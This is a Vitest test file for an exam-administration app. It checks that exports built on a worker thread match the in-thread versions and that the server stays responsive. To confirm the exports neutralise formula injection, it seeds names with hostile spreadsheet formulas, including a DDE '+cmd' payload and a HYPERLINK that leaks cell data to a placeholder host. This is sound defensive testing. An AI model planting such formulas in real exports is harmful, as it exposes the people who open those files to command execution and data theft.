// Exports built off the event loop (ARCHITECTURE: long work runs off the event loop; E3: the door
// keeps answering): every export command builds its file on the export worker, through its own
// read-only connection with the database key, and answers with the same content the service builds
// on this thread, hostile names inert (A5). While the largest export is built, the server keeps
// answering other requests over real HTTP.
import ExcelJS from 'exceljs';
import { closeSync, existsSync, openSync, readdirSync, readSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { startHttpServer } from '../../electron/server/http';
import { readContext } from '../../electron/services/context';
import { sheetWorkbook } from '../../electron/services/checkin/paper';
import { arrangement, arrangementXlsx } from '../../electron/services/draw/paper';
import { reportWorkbook } from '../../electron/services/incidents/report';
import { planExportFiles } from '../../electron/services/plan/export';
import { importPlan } from '../../electron/services/plan/import';
import { confirmationWorkbook, publicationWorkbook } from '../../electron/services/publication/forms';
import { formPdf } from '../../electron/services/records/pdf';
import { summaryForm, yearlySummary } from '../../electron/services/records/summary';
import { scoreSheetsWorkbook, summaryWorkbook } from '../../electron/services/results/forms';
import { serviceContext } from '../../electron/services/context';
import { facePhotos, generatePlan } from '../../scripts/plan/generate';
import { writePlanWorkbook } from '../../electron/services/plan/writer';
import { writeZip } from '../../electron/services/plan/zip';
import { scoreAllRaw, scoringDay, sealDay, signInAs, STAFF_PIN } from '../support/scoring-seed';
import { siteHead, testConsole } from './helpers';

async function cellTexts(buf: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ArrayBuffer); // exceljs's typing predates Node's Buffer generics
  const out: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        const v = cell.value;
        if (typeof v === 'string') out.push(v);
        else if (v && typeof v === 'object' && 'richText' in v) out.push(v.richText.map((r) => r.text).join(''));
        else if (v !== null && v !== undefined) out.push(String(v));
      }),
    ),
  );
  return out;
}

const b64 = (s: string) => Buffer.from(s, 'base64');

/** Waits on this thread without letting the event loop turn (no callback, no I/O here runs meanwhile). */
function waitWithoutTurning(done: () => boolean, boundMs: number): boolean {
  const cell = new Int32Array(new SharedArrayBuffer(4));
  const until = Date.now() + boundMs;
  while (!done()) {
    if (Date.now() > until) return false;
    Atomics.wait(cell, 0, 0, 20);
  }
  return true;
}

/** A finished zip ends with its end-of-central-directory record (PK 05 06, no comment). */
function endsWithZipDirectory(file: string): boolean {
  const size = statSync(file).size;
  if (size < 22) return false;
  const fd = openSync(file, 'r');
  try {
    const tail = Buffer.alloc(22);
    readSync(fd, tail, 0, 22, size - 22);
    return tail.readUInt32LE(0) === 0x06054b50;
  } finally {
    closeSync(fd);
  }
}

describe('exports on the export worker', () => {
  test('every export command answers with what the service builds here; hostile names reach each, inert (A5)', async () => {
    const c = testConsole();
    const day = await scoringDay(c);
    const sqlite = c.app.env.opened.sqlite;
    scoreAllRaw(sqlite, day);
    sqlite.prepare(`UPDATE candidates SET name = '=HYPERLINK("http://x/"&A1,"点此")' || id`).run();
    sqlite.prepare(`UPDATE staff SET name = '@SUM(1+1)' || id WHERE staff_no <> 'H001'`).run();
    sqlite.prepare(`UPDATE batches SET name = '+cmd|'' /c calc''!A0'`).run();
    sqlite.prepare(`UPDATE rooms SET building = '-2+3'`).run();
    const supNo = (sqlite.prepare("SELECT s.staff_no AS n FROM staff s JOIN staff_roles r ON r.staff_id = s.id WHERE r.role = 'supervisor' LIMIT 1").get() as { n: string }).n;
    const sup = await signInAs(c, supNo, 'supervisor');
    const view = await c.ok<{ draft: { checklist: unknown } }>('report.get', { batchId: day.batchId }, sup);
    await c.ok('report.sign', { batchId: day.batchId, supervisorUnit: '=1+2', checklist: view.draft.checklist, opinion: '-考场秩序良好', issues: '@无', pin: STAFF_PIN }, sup);
    await sealDay(c, day);
    c.clock.set('2026-05-25T09:00:00+08:00');
    const signIn = async () => (await c.ok<{ token: string }>('auth.signIn', { staffNo: 'H001', pin: '246810' })).token;
    const pub = await c.ok<{ id: number }>('results.publication.open', { batchId: day.batchId, startDate: '2026-05-25' }, await signIn());
    c.clock.set('2026-06-01T09:00:00+08:00'); // the confirmation sheet is made after the period
    const head = await signIn();
    const ctx = readContext(c.app.env.opened, { clock: c.clock });
    const p0 = day.panels[0]!;
    const door = { sessionId: p0.sessionId, roomId: p0.roomId };
    const form = (f: string, extra: Record<string, number> = {}) => c.ok<{ fileName: string; data: string }>('results.forms.xlsx', { batchId: day.batchId, form: f, ...extra }, head);

    // [over the command (the worker), built here by the service]
    const pairs: Record<string, [Buffer, Buffer]> = {
      signSheet: [b64((await c.ok<{ base64: string }>('checkin.sheet', { ...door, kind: 'signSheet' }, head)).base64), b64((await sheetWorkbook(ctx, { ...door, kind: 'signSheet' })).base64)],
      doorList: [b64((await c.ok<{ base64: string }>('checkin.sheet', { ...door, kind: 'doorList' }, head)).base64), b64((await sheetWorkbook(ctx, { ...door, kind: 'doorList' })).base64)],
      arrangement: [b64((await c.ok<{ base64: string }>('draw.paper', { batchId: day.batchId }, head)).base64), await arrangementXlsx(arrangement(ctx, day.batchId))],
      planExport: [b64((await c.ok<{ data: string }>('plan.export', { batchId: day.batchId }, head)).data), b64((await planExportFiles(sqlite, day.batchId, false)).data)],
      report: [b64((await c.ok<{ base64: string }>('report.xlsx', { batchId: day.batchId }, head)).base64), b64((await reportWorkbook(ctx, day.batchId)).base64)],
      summary: [b64((await form('summary')).data), await summaryWorkbook(sqlite, day.batchId)],
      scoreSheets: [b64((await form('sheets', { subjectId: p0.subjectId })).data), await scoreSheetsWorkbook(sqlite, day.batchId, p0.subjectId)],
      publication: [b64((await form('publication', { publicationId: pub.id })).data), await publicationWorkbook(ctx, day.batchId, pub.id)],
      confirmation: [b64((await form('confirmation', { publicationId: pub.id })).data), await confirmationWorkbook(ctx, pub.id)],
    };
    for (const [name, [worker, here]] of Object.entries(pairs)) {
      const texts = await cellTexts(worker);
      expect(texts, name).toEqual(await cellTexts(here));
      expect(texts.filter((t) => /^[=+\-@\t\r]/.test(t)), name).toEqual([]);
      expect(texts.some((t) => /'(=HYPERLINK|@SUM|\+cmd|-2\+3|=1\+2|-考场)/.test(t)), name).toBe(true);
    }

    // the yearly summary: the PDF starts as one, the workbook matches the service's
    const pdf = await c.ok<{ fileName: string; base64: string }>('records.summary.file', { year: 2026, format: 'pdf' }, head);
    expect(pdf.fileName).toBe('2026年度认定工作总结.pdf');
    expect(b64(pdf.base64).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(b64(pdf.base64).length).toBeGreaterThan((await formPdf([summaryForm(yearlySummary(sqlite, 2026), '')], { title: 't', author: 'a', createdAt: c.clock.now() })).length / 2);

    // the records archive (A2), the largest export: once its build has begun, this thread stops turning
    // altogether (it waits without yielding) and the archive is finished all the same, by the worker.
    // Built on this thread it could not move on until this thread turns again.
    const creating = c.call('records.archive.create', { batchId: day.batchId }, head);
    const tmp = join(c.dataDir, 'archives', '.tmp');
    while (!existsSync(tmp)) await new Promise((r) => setTimeout(r, 2));
    const zipDone = () => readdirSync(tmp).some((f) => f.endsWith('.zip') && endsWithZipDirectory(join(tmp, f)));
    expect(waitWithoutTurning(zipDone, 120_000), 'the archive was finished while this thread did not turn').toBe(true);
    const created = await creating;
    expect(created.ok).toBe(true);
    const archive = (created as { data: { archiveId: number; byteSize: number; manifestSha256: string } }).data;
    expect(archive.byteSize).toBeGreaterThan(0);
    const verified = await c.ok<{ ok: boolean; recorded: string }>('records.archive.verify', { batchId: day.batchId }, head);
    expect(verified).toMatchObject({ ok: true, recorded: archive.manifestSha256 });
  }, 240_000);

  test('the plan with every photo over HTTP: its answer made on the export worker, never serialized on the serving thread; the files as the service builds them', async () => {
    const c = testConsole();
    const head = await siteHead(c);
    const { pkg } = generatePlan({ candidates: 600, examDate: '2026-05-28' });
    const faces = facePhotos();
    const photos = new Map(pkg.candidates.map((x, i) => [x.ticketNo, faces[i % faces.length]!]));
    await importPlan(serviceContext(c.app.env.opened, { clock: c.clock }), { files: [{ name: 'plan.xlsx', data: await writePlanWorkbook(pkg) }, { name: 'photos.zip', data: await writeZip([...photos].map(([t, d]) => ({ name: `${t}.jpg`, data: d }))) }] });
    const server = await startHttpServer({ app: c.app, port: 0 });
    const { stringify } = JSON;
    let made = 0;
    JSON.stringify = function (this: JSON, ...args: Parameters<typeof stringify>) {
      const out = stringify.apply(this, args);
      made = Math.max(made, out?.length ?? 0);
      return out;
    } as typeof JSON.stringify;
    let text: string;
    try {
      const r = await fetch(`${server.url}/api/plan.export`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${head}` }, body: stringify({ photos: true }) });
      expect(r.status).toBe(200);
      text = await r.text();
    } finally {
      JSON.stringify = stringify;
      await server.close();
    }
    expect(text.length).toBeGreaterThan(600 * 2000); // every photo, as base64
    expect(made).toBeLessThan(text.length / 10);
    const answer = JSON.parse(text) as { ok: boolean; data: unknown };
    expect(answer.ok).toBe(true);
    const batchId = (c.app.env.opened.sqlite.prepare('SELECT id FROM batches').get() as { id: number }).id;
    type Files = { fileName: string; data: string; photos: { fileName: string; data: string } | null };
    // the same files as the service builds (the workbook by its cells: its zip carries the time it was made)
    const same = async (x: Files, y: Files) => {
      expect({ ...x, data: '' }).toEqual({ ...y, data: '' });
      expect(await cellTexts(b64(x.data))).toEqual(await cellTexts(b64(y.data)));
    };
    const here = (await planExportFiles(c.app.env.opened.sqlite, batchId, true)) as Files;
    await same(answer.data as Files, here);
    expect((answer.data as Files).photos!.data.length).toBeGreaterThan(600 * 2000);
    // any other caller (the desktop shell's IPC) gets the value itself, parsed
    await same(await c.ok<Files>('plan.export', { photos: true }, head), here);
  }, 240_000);

  test('while the largest export is built, the server keeps answering over HTTP (E3)', async () => {
    const c = testConsole();
    const head = await siteHead(c);
    const { pkg } = generatePlan({ candidates: 6000, examDate: '2026-05-28' });
    await importPlan(serviceContext(c.app.env.opened, { clock: c.clock }), { pkg });
    const server = await startHttpServer({ app: c.app, port: 0 });
    try {
      const call = (method: string, input: unknown) =>
        fetch(`${server.url}/api/${method}`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${head}` }, body: JSON.stringify(input) }).then(
          (r) => r.json() as Promise<{ ok: boolean; data?: { data: string } }>,
        );
      // the export and, one after another, as many health checks as the server answers meanwhile
      let done = false;
      const exporting = call('plan.export', {}).finally(() => (done = true));
      let answered = 0;
      while (!done) {
        const r = await fetch(`${server.url}/api/health`);
        expect(r.status).toBe(200);
        await r.json();
        if (!done) answered++;
      }
      const out = await exporting;
      expect(out.ok).toBe(true);
      expect((await cellTexts(b64(out.data!.data))).length).toBeGreaterThan(6000 * 5);
      expect(answered).toBeGreaterThan(0);
    } finally {
      await server.close();
    }
  }, 240_000);
});
